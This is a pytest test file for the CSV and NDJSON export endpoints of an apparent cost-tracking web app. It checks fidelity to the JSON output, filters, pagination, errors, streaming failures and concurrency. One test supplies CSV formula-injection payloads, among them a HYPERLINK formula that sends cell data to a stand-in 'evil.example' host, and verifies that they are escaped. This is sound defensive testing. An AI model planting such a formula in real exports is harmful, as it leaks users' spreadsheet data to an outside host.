"""GET /runs and GET /links as files: the rows and values of the JSON, whole, and safe in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from contextlib import ExitStack
from typing import Any

import pytest
from flask import Flask
from werkzeug.test import TestResponse

from costlens.services import exports
from costlens.store.engine import Store
from costlens.web.api.exports import AT_ONCE
from tests.web.caller import Caller, error_of
from tests.web.conftest import WEB, Shipped

CALL = {"provider": "openai", "model": "gpt-5.4", "inputTokens": 1000, "outputTokens": 100}
TYPES = {"csv": "text/csv", "ndjson": "application/x-ndjson"}
LISTS = ("runs", "links")

each_list = pytest.mark.parametrize("name", LISTS)
each_form = pytest.mark.parametrize("form", TYPES)


@pytest.fixture(autouse=True)
def _short_pages(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "PAGE", 2)


def as_csv(response: TestResponse) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.content_type == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.text, newline=""), strict=True))


def cell(value: Any) -> str:
    """What a value of the JSON is in CSV, where no text would be a formula."""
    if value is None:
        return ""
    return value if isinstance(value, str) else json.dumps(value, ensure_ascii=False, separators=(",", ":"))


def flat(one: dict[str, Any]) -> dict[str, Any]:
    """An object with its token counts beside the rest."""
    rest = {name: value for name, value in one.items() if name != "tokens"}
    return rest | one.get("tokens", {})


@each_list
@pytest.mark.parametrize("filters", ["", f"&repo={WEB}", "&state=counted", f"&repo={WEB}&state=suggested"])
def test_ndjson_is_the_objects_of_the_json(shipped: Shipped, alice: Caller, name: str, filters: str) -> None:
    response = alice.get(f"/{name}?format=ndjson{filters}")
    assert response.content_type == "application/x-ndjson"
    shown = alice.get(f"/{name}?limit=1000{filters}")
    lines = response.text.splitlines(keepends=True)
    assert [json.loads(line) for line in lines] == shown.json[name]
    assert all(line.endswith("\n") and line[:-1] in shown.text for line in lines), "letter by letter"


@each_list
@pytest.mark.parametrize("filters", ["", f"&repo={WEB}", "&state=counted"])
def test_csv_says_what_the_json_says(shipped: Shipped, alice: Caller, name: str, filters: str) -> None:
    rows = as_csv(alice.get(f"/{name}?format=csv{filters}"))
    objects = [flat(one) for one in alice.json(f"/{name}?limit=1000{filters}")[name]]
    assert len(rows) == len(objects) > 2
    assert all(row.keys() == one.keys() for row, one in zip(rows, objects, strict=True))
    for row, one in zip(rows, objects, strict=True):
        for column, value in one.items():
            if isinstance(value, float):
                assert float(row[column]) == value
                assert "e" not in row[column]
            else:
                assert row[column] == cell(value), column


@pytest.mark.parametrize(
    "query",
    [
        "reason=no_repo", "priced=false", "repo=none", "team=Storefront", "promptId=write-v2", "sessionId=s-1",
        "model=gpt-unheard-of", "provider=OPENAI", "startDate=2025-01-20&endDate=2025-01-21", "period=7d",
    ],
)  # fmt: skip
@each_form
def test_every_filter_of_runs_holds(shipped: Shipped, alice: Caller, form: str, query: str) -> None:
    response = alice.get(f"/runs?format={form}&{query}")
    rows = as_csv(response) if form == "csv" else [json.loads(line) for line in response.text.splitlines()]
    assert [row["id"] for row in rows] == [run["id"] for run in alice.json(f"/runs?{query}")["runs"]]


@each_form
def test_the_links_of_one_run(shipped: Shipped, alice: Caller, form: str) -> None:
    assert "write-v2" not in (text := alice.get(f"/links?format={form}&run={shipped.ids['login']}").text)
    assert text.count(shipped.ids["login"]) == 1
    assert shipped.ids["login"] not in alice.get(f"/links?format={form}&run={shipped.ids['search']}").text


@each_list
def test_nothing_is_a_header_alone(alice: Caller, name: str) -> None:
    text = alice.get(f"/{name}?format=csv").text
    assert text.endswith("\r\n")
    assert text.count("\n") == 1
    assert text.startswith("id,requestId," if name == "runs" else "run,requestId,")
    assert alice.get(f"/{name}?format=ndjson").data == b""


@each_list
@each_form
def test_a_limit_and_a_cursor_hold(shipped: Shipped, alice: Caller, name: str, form: str) -> None:
    def rows(query: str) -> list[str]:
        return alice.get(f"/{name}?format={form}{query}").text.splitlines()[form == "csv" :]

    whole = rows("")
    for limit in range(1, len(whole) + 2):
        assert rows(f"&limit={limit}") == whole[:limit]
    cursor = alice.json(f"/{name}?limit=3")["nextCursor"]
    assert rows(f"&cursor={cursor}") == whole[3:]
    assert rows(f"&cursor={cursor}&limit=1") == whole[3:4]


@pytest.mark.parametrize("path", ["/runs?limit=0", "/runs?limit=-1", "/runs?limit=x", "/links?limit=0"])
@each_form
def test_a_limit_that_is_none(alice: Caller, path: str, form: str) -> None:
    assert error_of(alice.get(f"{path}&format={form}"), 400, "invalid_input")["field"] == "limit"


@each_list
def test_an_unknown_format(alice: Caller, name: str) -> None:
    assert error_of(alice.get(f"/{name}?format=xml"), 400, "invalid_input")["field"] == "format"


@each_list
@each_form
def test_an_error_has_its_shape_in_every_format(
    alice: Caller, charlie: Caller, nobody: Caller, shipped: Shipped, name: str, form: str
) -> None:
    path = f"/{name}?format={form}"
    error_of(nobody.get(path), 401, "unauthorized")
    error_of(alice.get(f"{path}&repo=acme/unknown"), 404, "not_found")
    error_of(alice.get(f"{path}&cursor=x"), 400, "invalid_input")
    error_of(charlie.get(f"{path}&repo={WEB}"), 404, "not_found")
    assert "acme" not in charlie.get(path).text


@each_list
@each_form
def test_a_file_has_a_name(shipped: Shipped, alice: Caller, name: str, form: str) -> None:
    for prefix in ("", "/api"):
        response = alice.get(f"{prefix}/{name}?format={form}")
        assert response.headers["Content-Disposition"] == f'attachment; filename="acme-{name}.{form}"'


@each_list
@pytest.mark.parametrize(
    ("accept", "query", "kind"),
    [
        ("text/csv", "", "text/csv"),
        ("application/x-ndjson", "", "application/x-ndjson"),
        ("text/csv;q=0.5, application/json", "", "application/json"),
        ("text/csv", "?format=json", "application/json"),
        ("application/json", "?format=csv", "text/csv"),
        ("*/*", "", "application/json"),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "", "application/json"),
        ("image/png", "", "application/json"),
        ("nonsense", "", "application/json"),
    ],
)
def test_accept_chooses_where_format_does_not(
    app: Flask, alice: Caller, name: str, accept: str, query: str, kind: str
) -> None:
    response = app.test_client().get(f"/{name}{query}", headers={**alice.headers, "Accept": accept})
    assert response.mimetype == kind


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@sum", '=HYPERLINK("http://evil.example/?"&A1)'])
def test_no_text_is_a_formula(alice: Caller, text: str) -> None:
    fields = ("promptId", "requestId", "sessionId", "branch", "actor", "model")
    sent = CALL | dict.fromkeys(fields, text) | {"tags": {text: text}}
    assert alice.post("/integrations/run", sent).status_code == 200
    (row,) = as_csv(alice.get("/runs?format=csv"))
    assert {row[field] for field in fields} == {f"'{text}"}
    assert json.loads(row["tags"]) == {text: text}
    (line,) = alice.get("/runs?format=ndjson").text.splitlines()
    assert json.loads(line)["promptId"] == text


def test_text_with_everything_in_it_comes_back(alice: Caller) -> None:
    text = 'a "quoted", text\r\nof two lines; é 漢 🙂'
    assert alice.post("/integrations/run", CALL | {"sessionId": text}).status_code == 200
    (row,) = as_csv(alice.get("/runs?format=csv"))
    assert row["sessionId"] == alice.json("/runs")["runs"][0]["sessionId"] == text


@each_list
@each_form
def test_what_fails_before_the_first_row_is_an_error(store: Store, alice: Caller, name: str, form: str) -> None:
    with store.write() as tx:
        tx.exec_driver_sql("ALTER TABLE links RENAME TO gone")
    error_of(alice.get(f"/{name}?format={form}"), 500, "internal_error")
    with store.write() as tx:
        tx.exec_driver_sql("ALTER TABLE gone RENAME TO links")
    assert alice.get(f"/{name}?format={form}").status_code == 200


@each_list
@each_form
def test_what_fails_later_ends_in_what_no_reader_takes_for_the_end(
    app: Flask, store: Store, shipped: Shipped, alice: Caller, name: str, form: str
) -> None:
    response = alice.get(f"/{name}?format={form}")
    parts = response.iter_encoded()
    text = b"".join(next(parts) for _ in range(2))
    with store.write() as tx:
        tx.exec_driver_sql("ALTER TABLE links RENAME TO gone")
    text += rest(parts)
    with store.write() as tx:
        tx.exec_driver_sql("ALTER TABLE gone RENAME TO links")
    assert response.headers["X-Request-Id"].encode() in text.splitlines()[-1]
    with pytest.raises(ValueError if form == "ndjson" else csv.Error):
        read(text.decode(), form)


def rest(parts: Iterator[bytes]) -> bytes:
    """What comes until the failure, which is for the server's log."""
    found: list[bytes] = []
    with pytest.raises(RuntimeError, match="ended early"):
        found.extend(parts)
    return b"".join(found)


def read(text: str, form: str) -> None:
    """As a program reads the file."""
    if form == "csv":
        list(csv.reader(io.StringIO(text, newline=""), strict=True))
    else:
        for line in text.splitlines():
            json.loads(line)


@each_form
def test_too_many_at_once_are_refused_until_one_ends(shipped: Shipped, alice: Caller, form: str) -> None:
    path = f"/runs?format={form}"
    with ExitStack() as stack:
        running = [stack.enter_context(alice.get(path)) for _ in range(AT_ONCE)]
        body = error_of(alice.get(path), 503, "unavailable")
        assert body["retryAfter"] > 0
        assert len(alice.json("/runs")["runs"]) == len(shipped.ids), "pages go on"
        assert len(running[0].data.splitlines()) >= len(shipped.ids)
        assert alice.get(path).status_code == 200, "one has been read to its end"
    assert alice.get(path).status_code == 200, "the others were left"


@each_list
def test_a_head_holds_nothing(app: Flask, alice: Caller, name: str) -> None:
    for _ in range(2 * AT_ONCE):
        response = app.test_client().head(f"/{name}?format=csv", headers=alice.headers)
        assert (response.status_code, response.data) == (200, b"")
        response.close()
